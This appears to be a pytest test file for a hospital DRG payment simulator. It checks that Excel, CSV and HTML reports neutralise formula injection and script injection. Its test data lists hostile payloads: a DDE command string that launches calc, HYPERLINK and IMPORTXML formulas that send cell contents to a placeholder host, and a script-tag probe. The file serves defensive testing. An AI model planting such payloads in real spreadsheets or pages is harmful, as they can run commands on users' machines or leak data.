"""Text from the input never runs as a formula in a spreadsheet program.

The Excel report writes every text cell as text (no formulas, no hyperlinks); the CSV tables
meant for people quote formula-like text; the data files stay as they are.
"""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

import drgsim
from drgsim.io import FORMULA_TRIGGERS, spreadsheet_safe, write_frame, write_report_csv

report = pytest.importorskip("drgsim.report")
openpyxl = pytest.importorskip("openpyxl")
pytest.importorskip("xlsxwriter")

#: Text that a spreadsheet would evaluate if it were written as a formula or typed in a cell.
NASTY = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "+1-2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "http://example.invalid/x",
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
]


@pytest.fixture(scope="module")
def paid() -> pl.DataFrame:
    cases = drgsim.synth.hospital("teaching", cases=1500, hospitals=2, seed=3)
    n = len(NASTY)
    cases = cases.with_row_index("_i").with_columns(
        department=pl.when(pl.col("_i") < n)
        .then(pl.col("_i").map_elements(lambda i: NASTY[i], return_dtype=pl.String))
        .otherwise(pl.col("department")),
        doctor_id=pl.when(pl.col("_i") < n)
        .then(pl.col("_i").map_elements(lambda i: "-" + NASTY[i], return_dtype=pl.String))
        .otherwise(pl.col("doctor_id")),
        case_id=pl.when(pl.col("_i") < n)
        .then(pl.col("_i").map_elements(lambda i: NASTY[i] + "#case", return_dtype=pl.String))
        .otherwise(pl.col("case_id")),
        # the 说明 column of the 未入组／歧义组 sheet
        message=pl.when(pl.col("status") != "ok")
        .then(pl.lit("=SUM(1,2) 说明"))
        .otherwise(pl.col("message")),
    )
    return drgsim.pay(cases.drop("_i"), drgsim.policy.example("rate"))


def _cells(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data_type) of every non-empty cell."""
    wb = openpyxl.load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    out.append((ws.title, c.coordinate, c.value, c.data_type))
    return out


def test_excel_report_writes_formula_like_text_as_text(paid, tmp_path):
    path = report.excel_report(paid, tmp_path / "r.xlsx")
    cells = _cells(path)
    assert [c for c in cells if c[3] == "f"] == []
    texts = {v for _, _, v, t in cells if t == "s"}
    for s in NASTY:
        if "\r" in s:  # xlsx stores a carriage return escaped; openpyxl does not decode it
            assert s.replace("\r", "_x000D_") in texts
            continue
        assert s in texts, s  # the department, unchanged
        assert "-" + s in texts  # the doctor
        assert s + "#case" in texts  # the case id in 明细
    assert "=SUM(1,2) 说明" in texts
    wb = openpyxl.load_workbook(path)
    assert not any(c.hyperlink for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_excel_report_keeps_numbers_numbers(paid, tmp_path):
    """Only text is forced to text: counts and money (also negative 盈亏) stay numbers."""
    path = report.excel_report(paid, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["汇总"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert row["病例数"].data_type == "n" and isinstance(row["病例数"].value, int)
    assert row["盈亏(万元)"].data_type == "n"


def test_excel_report_is_written_atomically(paid, tmp_path):
    path = report.excel_report(paid, tmp_path / "r.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
    assert path.stat().st_size > 0


def test_html_report_escapes_text(paid, tmp_path):
    pytest.importorskip("altair")
    pytest.importorskip("vl_convert")
    hostile = paid.with_columns(
        hospital_id=pl.when(pl.col("hospital_id") == pl.first("hospital_id"))
        .then(pl.lit("<script>alert(1)</script>"))
        .otherwise(pl.col("hospital_id"))
    )
    path = report.html_report(hostile, tmp_path / "r.html")
    text = path.read_text(encoding="utf-8")
    assert "<script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.html"]


@pytest.mark.parametrize("first", FORMULA_TRIGGERS)
def test_report_csv_quotes_text_that_would_run(tmp_path, first):
    df = pl.DataFrame({"科室": [first + "1+1", "内科", None], "盈亏": [-5.0, 3.0, 1.0]})
    p = write_report_csv(df, tmp_path / "t.csv")
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the Chinese as UTF-8
    back = pl.read_csv(p)
    assert back["科室"].to_list() == ["'" + first + "1+1", "内科", None]
    assert back["盈亏"].to_list() == [-5.0, 3.0, 1.0]  # numbers untouched


def test_spreadsheet_safe_leaves_harmless_text_and_other_types_alone():
    df = pl.DataFrame(
        {
            "t": ["I63.900", "a=b", "1-2", " =x", "", None],
            "n": [-1, 2, 3, 4, 5, 6],
            "l": [["=x"]] * 6,
        }
    )
    out = spreadsheet_safe(df)
    assert out["t"].to_list() == ["I63.900", "a=b", "1-2", " =x", "", None]
    assert out["n"].equals(df["n"]) and out["l"].equals(df["l"])


def test_data_files_are_not_escaped(tmp_path):
    """group/pay outputs are data for programs: the text is written exactly as it came."""
    df = pl.DataFrame({"case_id": ["=1+1", "-5", "@x"]})
    write_frame(df, tmp_path / "d.csv")
    assert pl.read_csv(tmp_path / "d.csv", infer_schema=False)["case_id"].to_list() == [
        "=1+1",
        "-5",
        "@x",
    ]
